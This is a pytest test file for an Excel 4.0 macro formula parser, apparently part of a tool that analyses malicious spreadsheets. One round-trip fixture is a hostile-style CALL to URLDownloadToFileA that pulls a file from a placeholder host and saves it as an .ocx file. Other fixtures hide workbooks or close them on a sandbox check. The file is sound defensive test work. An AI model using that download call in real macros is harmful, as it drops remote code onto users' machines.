from random import Random

import pytest

from sekisho.analyzers._xlm_ast import Binary, Name, Ref, UserCall, render, shift
from sekisho.analyzers._xlm_formula import parse_formula, parse_reference
from sekisho.model.errors import MalformedError


@pytest.mark.parametrize(
    "text",
    [
        'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"http://a.example/","..\\x.ocx",0,0)',
        "IF(HRHRE1<0,CLOSE(0),)",
        "'My sheet'!$A$1&Data!P22&'Vv1'!H9",
        "SUM(A1:B$3,$A:$C,1:3)*-2^2%",
        '{1,2;"a",-3}',
        '"say ""so"""',
        "Macro1!A5()",
        "C1(1,2)",
        "Fetch(0)",
        "-A1<>B2",
        "(A1+B2)*3",
        "#N/A",
        "TRUE&FALSE()",
        "LOG10(A1)",
        "OFFSET(A1,1,1):B2",
        "A1:B2 B2:C3",
        "INDEX((A1,B2),1)",
        "1.5E+300",
        "_xlnm.name.of_it",
        "WORKBOOK.HIDE(,TRUE)",
        "'it''s'!A1",
        "合計!A1&名前",
    ],
)
def test_what_is_read_is_written_the_same(text):
    assert render(parse_formula(text)) == text


@pytest.mark.parametrize(
    ("text", "a1"),
    [
        ("R1C1", "$A$1"),
        ("R[-1]C[2]", "G4"),
        ("RC", "E5"),
        ("R2C", "E$2"),
        ("R1C1:R[1]C2", "$A$1:$B6"),
        ("R[1]C()", "E6()"),
        ("RC1&B2", "$A5&B2"),
    ],
)
def test_r1c1(text, a1):
    assert render(parse_formula(text, (4, 4), r1c1=True)) == a1


def test_a1_notation_reads_rc1_as_a_cell():
    assert parse_formula("RC1") == Ref("", 0, 470, 0, 470, 15)


def test_names_that_only_look_like_cells():
    assert parse_formula("HRHRE1") == Name("HRHRE1")
    assert parse_formula("XYZ99") == Name("XYZ99")
    assert isinstance(parse_formula("Macro1!go(1)"), UserCall)


def test_precedence():
    assert parse_formula("1+2&3=4") == Binary(
        "=", Binary("&", parse_formula("1+2"), parse_formula("3")), parse_formula("4")
    )


def test_references_only():
    assert parse_reference("Sheet2!$B$3") == Ref("Sheet2", 2, 1, 2, 1, 0)
    assert parse_reference("no ref") is None


def test_shift_moves_relative_references_only():
    assert render(shift(parse_formula('A1&$A$1&SUM(B2:C$3)&"A1"'), 2, 1)) == 'B3&$A$1&SUM(C4:D$3)&"A1"'
    assert render(shift(parse_formula("A1"), -1, 0)) == "#REF!"


@pytest.mark.parametrize(
    "text", ["", "=1", "1+", "(1", "f(1", '"open', "{1;2", "1 2", "a b(", "A1!", "(" * 100, "1" * 40_000, "\x00"]
)
def test_malformed(text):
    with pytest.raises(MalformedError):
        parse_formula(text)


def test_long_and_deep_texts():
    assert render(parse_formula("&".join(['"a"'] * 5_000))).count("&") == 4_999
    assert render(parse_formula("1" + "%" * 60)).endswith("%")
    for text in ("f(" * 70, "-" * 70 + "1", "1" + "%" * 70, "(" * 70 + "1" + ")" * 70, "a(1)(2)(3)(4)(5)(6)"):
        with pytest.raises(MalformedError):
            parse_formula(text)


def test_random_texts_are_read_or_malformed():
    random = Random(5)
    pieces = [
        "A1",
        "R1C1",
        "f(",
        ")",
        ",",
        '"',
        "a",
        "1",
        "&",
        "!",
        "'",
        ":",
        "%",
        "{",
        "}",
        ";",
        " ",
        "$",
        "#REF!",
        "[",
        "(",
    ]
    for _ in range(3_000):
        text = "".join(random.choice(pieces) for _ in range(random.randrange(1, 12)))
        try:
            expr = parse_formula(text, (3, 3), r1c1=random.random() < 0.5)
        except MalformedError:
            continue
        assert isinstance(render(expr), str)
